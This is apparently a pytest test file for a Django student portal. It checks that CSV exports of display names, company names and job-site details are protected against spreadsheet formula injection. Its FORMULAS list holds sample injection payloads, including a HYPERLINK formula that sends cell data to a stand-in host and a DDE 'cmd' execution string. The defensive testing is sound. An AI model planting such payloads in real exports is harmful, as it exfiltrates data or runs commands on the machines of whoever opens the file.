"""A CSV the portal writes never holds a cell a spreadsheet would run as a formula.

Students choose their display names, and the staff's impact report exports them; each
payload below is a name, the CSV is downloaded from the admin and read back with the csv
module: the cell is the name with a leading apostrophe (OWASP's advice), and a name that
only contains such a sign later is left as it is. The same for the activity records' CSV of
a disclosure report (what the job site sent, the companies' names).
"""

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone

from consent.reports import NEVER_ACCEPTED
from disclosure.reports import disclosure_report_files
from disclosure.services import request_file
from portal.shared.spreadsheets import csv_safe
from tests.factories import (
    ActivityRecordFactory,
    EmployerFactory,
    PurposeFactory,
    StaffFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]
HARMLESS = ["山田 花子", "a=b", "Hanako +81", "1-2", "Ｏ'Brien"]


def csv_rows(client, purpose) -> list[list[str]]:
    response = client.get(
        reverse("admin:consent_purpose_impact_csv", args=[purpose.pk, NEVER_ACCEPTED])
    )
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_display_name_like_a_formula_is_written_as_text(client):
    purpose = PurposeFactory(code="behaviour_analysis", requires_opt_in=True)
    names = FORMULAS + HARMLESS
    for number, name in enumerate(names):
        UserFactory(display_name=name, email=f"csv{number}@example.jp")
    client.force_login(StaffFactory())
    _header, *rows = csv_rows(client, purpose)
    by_email = {row[1]: row for row in rows}
    for number, name in enumerate(names):
        cell = by_email[f"csv{number}@example.jp"][2]
        if name in FORMULAS:
            assert cell == "'" + name, (name, cell)
        else:
            assert cell == name, (name, cell)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


@pytest.mark.parametrize("company", FORMULAS)
def test_a_company_name_like_a_formula_is_made_text_by_the_same_rule(company):
    assert csv_safe(company) == "'" + company
    assert csv_safe(f"株式会社{company}") == f"株式会社{company}"


@pytest.mark.parametrize("language", ["ja", "en"])
def test_the_disclosure_reports_csv_writes_details_and_company_names_as_text(language):
    # The activity records' CSV that comes with a disclosure report: each detail is what the
    # job site sent, each company's name (in the report's language) what staff typed.
    student = UserFactory(language=language)
    values = FORMULAS + HARMLESS
    for number, value in enumerate(values):
        ActivityRecordFactory(
            student=student,
            employer=EmployerFactory(name=value, name_en=value),
            detail=value,
            occurred_at=timezone.now() - timedelta(minutes=len(values) - number),
        )
    request = request_file(student=student, kind="disclosure", language=language)

    [content] = [
        c
        for kind, _n, _t, c in disclosure_report_files(request_id=request.pk)
        if kind == "report_csv"
    ]

    _header, *rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert len(rows) == len(values)
    for value, (_id, _when, _kind, company, detail, _disputed) in zip(values, rows, strict=True):
        expected = "'" + value if value in FORMULAS else value
        assert (company, detail) == (expected, expected)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_every_csv_writer_of_the_project_writes_through_csv_safe():
    writers = []
    for app in ("portal", "consent", "disclosure", "audit", "backoffice"):
        for path in Path(settings.BASE_DIR, app).rglob("*.py"):
            source = path.read_text()
            if re.search(r"csv\.(writer|DictWriter)\(", source):
                writers.append(path.relative_to(settings.BASE_DIR))
                assert "csv_safe(" in source, f"{path}: a CSV writer without csv_safe"
    assert writers, "no CSV writer found: the scan is looking in the wrong place"
